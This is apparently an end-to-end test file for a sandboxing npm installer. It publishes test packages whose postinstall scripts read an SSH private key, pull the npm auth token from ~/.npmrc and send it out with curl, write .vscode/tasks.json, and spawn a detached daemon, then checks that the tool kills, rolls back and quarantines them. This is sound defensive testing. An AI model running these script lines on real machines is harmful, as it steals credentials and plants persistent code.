import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { chmod, chown, mkdir, mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import * as tar from 'tar';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { type JsonReport, reportSchema } from '../../src/report/index.js';
import { plain } from './made.js';
import { hashTree } from './project.js';
import { type MadePackage, startRegistry, type TestRegistry } from './registry.js';

// The whole road, as users have it: bin/ and dist/, the real analyzer, the real sandbox, a registry on loopback. A person has
// looked at the findings of these packages and excepted them; the sandbox is what is left between script and machine.
const BIN = fileURLToPath(new URL('../../bin/safe-install.js', import.meta.url));

/** As root: root's own project, and a throw-away user. Else only ourselves. */
const identities = process.getuid?.() === 0 ? (['root', 'user'] as const) : (['self'] as const);
const THROW_AWAY = 54_321;

/** Appears in the command line of every process that the scripts leave behind. */
const MARK = `si-left-${randomBytes(6).toString('hex')}`;
/** A program of its own session, which nobody waits for, and work that would come after the violation. */
const DAEMON = `setsid sh -c 'sleep 300; : ${MARK}' >/dev/null 2>&1 & `;
const LATER = '; sleep 20; echo survived > survived.txt; echo survived';

const scripts = {
  'reads-then-asks': `${DAEMON}echo loot > loot.txt; cat ~/.ssh/id_ed25519 >/dev/null; getent hosts collect.example${LATER}`,
  // Its policy lets it go on after the read, so that it gets as far as sending.
  'sends-canary': `${DAEMON}T=$(sed -n 's/.*_authToken=//p' ~/.npmrc); curl -s "$npm_config_registry"x-$T${LATER}`,
  'writes-protected': `${DAEMON}mkdir -p "$INIT_CWD/.vscode"; echo '{}' > "$INIT_CWD/.vscode/tasks.json"${LATER}`,
};
type Case = keyof typeof scripts;

const made = (name: string, postinstall: string): MadePackage => ({
  manifest: {
    name,
    version: '1.0.0',
    bin: { [`${name}-tool`]: 'index.js' },
    dependencies: { kept: '1.1.0' },
    scripts: { postinstall },
  },
  files: { 'index.js': 'module.exports = 1;\n' },
});

let registry: TestRegistry;
let root: string;
let owner: { uid: number; gid: number } | null = null;
const project = () => join(root, 'project');

beforeAll(async () => {
  registry = await startRegistry();
  const bin = { bin: { 'kept-tool': 'index.js' } };
  await registry.publish(plain('kept', '1.0.0', bin));
  await registry.publish(plain('kept', '1.1.0', { bin: { ...bin.bin, 'kept-more': 'index.js' } }));
  for (const [name, script] of Object.entries(scripts)) await registry.publish(made(name, script));
  await registry.publish(plain('wants-it', '1.0.0', { optionalDependencies: { 'reads-then-asks': '1.0.0' } }));
});
afterAll(() => registry.stop());
beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'si-violation-'));
});
afterEach(() => rm(root, { recursive: true, force: true }));

interface Ended {
  code: number | null;
  ms: number;
  stdout: string;
  stderr: string;
}

function safeInstall(...argv: string[]): Promise<Ended> {
  const begun = performance.now();
  const child = spawn(process.execPath, [BIN, ...argv], {
    cwd: project(),
    stdio: ['ignore', 'pipe', 'pipe'],
    env: {
      PATH: process.env['PATH'],
      HOME: join(root, 'home'),
      SAFE_INSTALL_HOME: join(root, 'state'),
      npm_config_registry: registry.url,
      npm_config_cache: join(root, 'cache'),
      npm_config_globalconfig: join(root, 'none'),
    },
    ...owner,
  });
  let [stdout, stderr] = ['', ''];
  child.stdout.on('data', (data) => {
    stdout += data;
  });
  child.stderr.on('data', (data) => {
    stderr += data;
  });
  return new Promise((done) =>
    child.on('close', (code) => done({ code, ms: performance.now() - begun, stdout, stderr })),
  );
}

/** A project that has an older `kept` with a change of the user's own, and a policy that lets the packages through. */
async function settle(identity: (typeof identities)[number], name?: Case): Promise<void> {
  owner = identity === 'user' ? { uid: THROW_AWAY, gid: THROW_AWAY } : null;
  const tomorrow = new Date(Date.now() + 24 * 3600_000).toISOString().slice(0, 10);
  const exceptions = Object.keys(scripts).map((name) => ({ package: name, reason: 'looked at', expires: tomorrow }));
  const policy = {
    exceptions,
    grants: { 'writes-protected': { writable: [project()] } },
    ...(name === 'sends-canary' ? { sandbox: { violations: { 'decoy-then-network': 'report' } } } : {}),
  };
  for (const folder of ['project', 'home', 'cache', 'state']) await mkdir(join(root, folder));
  const write = (name: string, value: unknown) => writeFile(join(project(), name), `${JSON.stringify(value)}\n`);
  await write('package.json', { name: 'p', version: '1.0.0', dependencies: { kept: '1.0.0' } });
  await write('safe-install.json', policy);
  if (owner !== null) {
    await chmod(root, 0o755);
    for (const path of ['', 'home', 'cache', 'state', 'project', 'project/package.json', 'project/safe-install.json']) {
      await chown(join(root, path), owner.uid, owner.gid);
    }
  }
  const first = await safeInstall('install');
  expect(first.code, first.stderr).toBe(0);
  await writeFile(join(project(), 'node_modules/kept/local-patch.txt'), 'mine\n');
}

/** Command lines of this machine that carry the mark. */
async function leftovers(): Promise<string[]> {
  const pids = (await readdir('/proc')).filter((name) => /^\d+$/.test(name));
  const lines = await Promise.all(pids.map((pid) => readFile(`/proc/${pid}/cmdline`, 'utf8').catch(() => '')));
  return lines.filter((line) => line.includes(MARK));
}

function parsed({ stdout }: Ended): JsonReport {
  return reportSchema.parse(JSON.parse(stdout));
}

describe.each(identities)('a severe violation, as %s', (identity) => {
  const expected: Record<Case, { violation: string; events: string[] }> = {
    'reads-then-asks': { violation: 'read the decoy ~/.ssh/id_ed25519', events: ['decoy reported', 'decoy killed'] },
    'sends-canary': { violation: 'tried to send a planted credential', events: ['canary killed'] },
    'writes-protected': { violation: 'wrote the protected path', events: ['file killed'] },
  };

  test.each(Object.keys(scripts) as Case[])('ends the install with 12: %s', async (name) => {
    await settle(identity, name);
    const before = await hashTree(project());
    const ended = await safeInstall('install', name, '--json');
    expect(ended.code, ended.stdout + ended.stderr).toBe(12);
    expect(ended.ms, 'it does not wait for the script').toBeLessThan(20_000);
    expect(await hashTree(project()), 'the tree is byte for byte what it was').toEqual(before);
    expect(await leftovers(), 'all its processes are ended').toEqual([]);

    const report = parsed(ended);
    const { violation, events } = expected[name];
    expect(report).toMatchObject({ exitCode: 12, changes: { added: 0, removed: 0, changed: 0 } });
    expect(report.network?.latencyMs.p95).toBeGreaterThanOrEqual(report.network!.latencyMs.p50);
    if (name === 'sends-canary') expect(Object.values(report.network!.hosts)[0]).toMatchObject({ denied: 1 });
    const [run] = report.scripts;
    expect(run).toMatchObject({ package: `${name}@1.0.0`, event: 'postinstall', exitCode: null, sandbox: 'full' });
    expect(run!.violation).toContain(violation);
    expect(run!.output).not.toContain('survived');
    expect(report.events.map((event) => `${event.class} ${event.action}`)).toEqual(expect.arrayContaining(events));

    const folder = run!.quarantine!;
    expect(folder.startsWith(join(root, 'state/quarantine/'))).toBe(true);
    const kept = await stat(folder);
    expect([kept.mode & 0o077, kept.uid]).toEqual([0, owner?.uid ?? process.getuid?.()]);
    const context = JSON.parse(await readFile(join(folder, 'context.json'), 'utf8'));
    expect(context).toMatchObject({ violation: run!.violation, run: { package: `${name}@1.0.0` } });
    expect(context.events).toEqual(report.events.filter((event) => event.package === `${name}@1.0.0`));
    expect(context.processes.join('\n')).toContain(MARK);
    const names: string[] = [];
    await tar.list({ file: join(folder, 'package.tgz'), onReadEntry: (entry) => names.push(entry.path) });
    expect(names).toContain('package/package.json');

    const { error } = report;
    expect(error).toMatchObject({ code: 'EVIOLATION', where: `${name}@1.0.0` });
    expect(error!.next.join('\n')).toContain(folder);
    expect(error!.next.join('\n')).toContain(`safe-install explain ${name}@1.0.0`);
  });

  test('ci puts the old tree back', async () => {
    await settle(identity);
    const manifest = { name: 'p', version: '1.0.0', dependencies: { kept: '1.0.0', 'reads-then-asks': '1.0.0' } };
    await writeFile(join(project(), 'package.json'), `${JSON.stringify(manifest)}\n`);
    expect((await safeInstall('install', '--package-lock-only')).code).toBe(0);
    const before = await hashTree(project());
    expect((await safeInstall('ci')).code).toBe(12);
    expect(await hashTree(project())).toEqual(before);
    expect(await leftovers()).toEqual([]);
  });

  test('is not passed over because the package is optional', async () => {
    await settle(identity);
    const before = await hashTree(project());
    expect((await safeInstall('install', 'wants-it')).code).toBe(12);
    expect(await hashTree(project())).toEqual(before);
  });
});

test('tells a person what happened, where it is kept, and what to do', async () => {
  await settle(identities[0]);
  const { code, stdout, stderr } = await safeInstall('install', 'reads-then-asks');
  expect(code).toBe(12);
  expect(stderr).toContain('safe-install error EVIOLATION reads-then-asks@1.0.0 was stopped in its postinstall script');
  expect(stderr).toContain('The tree was rolled back.');
  expect(stderr).toMatch(/→ .*quarantine\/\S+reads-then-asks@1\.0\.0/);
  expect(stderr).toContain('planted');
  expect(stdout).toContain('killed decoy network by reads-then-asks@1.0.0 postinstall');
  expect(stdout).not.toMatch(/^added/m);
});

test('goes on where policy says to report only', async () => {
  await settle(identities[0]);
  const policy = JSON.parse(await readFile(join(project(), 'safe-install.json'), 'utf8'));
  policy.sandbox = { violations: { 'protected-path': 'report' } };
  await writeFile(join(project(), 'safe-install.json'), JSON.stringify(policy));
  await registry.publish({ ...made('quick', `mkdir "$INIT_CWD/.vscode"`) });
  policy.grants.quick = policy.grants['writes-protected'];
  policy.exceptions.push({ ...policy.exceptions[0], package: 'quick' });
  await writeFile(join(project(), 'safe-install.json'), JSON.stringify(policy));
  const ended = await safeInstall('install', 'quick', '--json');
  expect(ended.code, ended.stderr).toBe(0);
  expect(parsed(ended).events.map((event) => `${event.class} ${event.action}`)).toContain('file undone');
  expect(await readdir(project())).not.toContain('.vscode');
});
